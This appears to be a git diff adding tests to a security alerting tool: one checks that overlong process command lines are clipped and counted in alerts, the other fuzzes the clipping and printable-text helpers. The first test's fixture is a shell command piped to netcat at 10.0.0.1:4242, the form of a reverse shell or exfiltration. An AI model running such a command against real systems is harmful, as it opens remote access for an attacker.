@@ -13,8 +13,9 @@ from hypothesis import strategies as st
 from rich.cells import cell_len
 
 from maxspan.alerts.group import AlertGroup
+from maxspan.alerts.printable import clip, printable
 from maxspan.sinks.matches import MatchStories, MatchTable
-from maxspan.sinks.style import console_for
+from maxspan.sinks.style import LONGEST, console_for
 from maxspan.sinks.table import TableSink
 from maxspan.sinks.terminal import TerminalSink
 from tests.alerts.detections import SEQUENCE, a_rule, connection, groups, matches, started
@@ -61,6 +62,30 @@ def test_an_alert_tells_what_where_when_who_and_what_next() -> None:
         f"▌ Alert    {group.id[:16]} · rule rule-1",
         "",
     ]
+
+
+def test_the_middle_of_a_long_command_line_is_left_out_and_counted() -> None:
+    line = f"sh -c {'x' * 16_000} | nc 10.0.0.1 4242"
+    process = {"pid": 11, "entity_id": "e11", "name": "sh", "command_line": line}
+    (group,) = groups(a_rule("process where true"), [started(process=process, host={"name": "h" * 5_000})])
+    told = terminal([group])
+    assert len(told.splitlines()) < 40
+    joined = "".join(part.removeprefix("▌").strip() for part in told.splitlines()).replace(" ", "")
+    for length in (5_000, len(line)):
+        assert f"[...{length - LONGEST:,}charactersleftout...]" in joined
+    assert "sh-cxxx" in joined and "nc10.0.0.14242" in joined
+    assert group.head["process"]["command_line"] == line  # the document has all of it
+
+
+@given(st.text(alphabet=st.sampled_from("ab \x1b\n\u202e\U000e0041\u0301é"), max_size=200), st.integers(3, 80))
+def test_what_is_left_of_a_text_fits_and_nothing_is_lost_uncounted(text: str, most: int) -> None:
+    begin, left_out, end = clip(text, most)
+    assert text.startswith(begin) and text.endswith(end)
+    assert len(begin) + left_out + len(end) == len(text)
+    assert len(printable(begin)) + len(printable(end)) <= most
+    assert left_out or begin == text
+    if len(printable(text)) <= most and len(text) <= most:
+        assert (begin, left_out, end) == (text, 0, "")
 
 
 def test_guide_and_attack_are_told_once_a_rule() -> None:
